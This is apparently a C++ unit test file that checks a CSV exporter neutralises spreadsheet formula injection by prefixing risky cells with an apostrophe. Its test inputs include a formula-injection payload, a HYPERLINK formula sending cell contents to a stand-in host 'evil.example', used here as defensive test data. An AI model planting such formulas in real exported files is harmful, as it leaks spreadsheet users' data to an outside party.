// CSV opened in a spreadsheet runs nothing: cells that would start a formula
// are neutralised the way OWASP recommends (a leading ' inside a quoted field).
#include <doctest/doctest.h>

#include "core/io/csv_export.h"

using namespace hs;

namespace {
PostMortem docWithAction(const std::string& docTitle, const std::string& title, const std::string& owner,
                         const std::string& link) {
  PostMortem d;
  d.title = docTitle;
  ActionItem a;
  a.title = title;
  a.owner = owner;
  a.link = link;
  a.status = ActionStatus::NotStarted;
  d.actions = {a, a};
  return d;
}
}  // namespace

TEST_CASE("exports: CSV cells starting with = + - @ TAB or CR are written as text") {
  CHECK(csvField("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")") ==
        "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"");
  CHECK(csvField("=1+2") == "\"'=1+2\"");
  CHECK(csvField("+1+2") == "\"'+1+2\"");
  CHECK(csvField("-2+3") == "\"'-2+3\"");
  CHECK(csvField("@SUM(A1:A9)") == "\"'@SUM(A1:A9)\"");
  CHECK(csvField("\t=1+2") == "\"'\t=1+2\"");
  CHECK(csvField("\r=1+2") == "\"'\r=1+2\"");
  // Only the first character matters; ordinary text is unchanged.
  CHECK(csvField("a=1") == "a=1");
  CHECK(csvField("Fix the @mention parser") == "Fix the @mention parser");
  CHECK(csvField("") == "");
}

TEST_CASE("exports: a formula in the post-mortem title is neutralised in every row") {
  const PostMortem d = docWithAction("=HYPERLINK(\"http://x.example\",\"Open\")", "@cmd", "-Ana", "+1");
  const std::string row = "\"'@cmd\",\"'-Ana\",,Not started,\"'+1\",\"'=HYPERLINK(\"\"http://x.example\"\",\"\"Open\"\")\",Prevent recurrence,\r\n";
  CHECK(actionsCsv(d) == "Summary,Assignee,Due date,Status,Link,Post-mortem,Kind,Notes\r\n" + row + row);
}

TEST_CASE("exports: CSV with a UTF-8 BOM for spreadsheet programs on Windows") {
  const PostMortem d = docWithAction("Çağrı", "Дмитрий", "Çağrı", "");
  const std::string body = "Summary,Assignee,Due date,Status,Link,Post-mortem,Kind,Notes\r\n"
                           "Дмитрий,Çağrı,,Not started,,Çağrı,Prevent recurrence,\r\n"
                           "Дмитрий,Çağrı,,Not started,,Çağrı,Prevent recurrence,\r\n";
  CHECK(actionsCsv(d) == body);
  CsvOptions excel;
  excel.utf8Bom = true;
  CHECK(actionsCsv(d, excel) == "\xEF\xBB\xBF" + body);
  CHECK(actionsCsv(std::vector<PostMortem>{d, d}, excel).rfind("\xEF\xBB\xBFSummary,", 0) == 0);
  CHECK(actionsCsv(std::vector<PostMortem>{}, excel) == "\xEF\xBB\xBFSummary,Assignee,Due date,Status,Link,Post-mortem,Kind,Notes\r\n");
}
